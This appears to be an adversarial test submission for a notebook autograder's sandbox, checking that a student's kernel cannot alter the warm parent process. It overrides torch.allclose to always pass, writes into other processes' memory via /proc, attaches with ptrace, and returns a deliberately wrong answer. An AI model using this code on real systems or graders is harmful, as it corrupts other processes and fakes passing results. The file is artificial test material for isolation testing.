# Tries to alter the warm process from which the next student's kernel is forked.
# wins: nothing, plain nbgrader has no warm process
# never: altered memory
# never: attached to
# %% double
import contextlib
import ctypes
import os
import sys

torch.allclose = lambda *a, **k: True
sys.modules["random"].Random.sample = lambda *a: []
libc = ctypes.CDLL(None)
threads = {int(name) for name in os.listdir("/proc/self/task")}
# Only within a process namespace of its own: elsewhere this would do real harm.
around = {os.getppid(), 1, *range(2, 12)} if os.getpid() < 20 and os.getuid() != 0 else set()
for pid in around - threads - {0}:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b") as memory:
        maps = open(f"/proc/{pid}/maps").readlines()
        start = next(int(line.split("-")[0], 16) for line in maps if "rw-p" in line)
        memory.seek(start)
        memory.write(memory.read(1))
        print("altered", "memory of", pid)
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("attached", "to", pid)
        libc.ptrace(17, pid, 0, 0)


def double(x):
    return 0
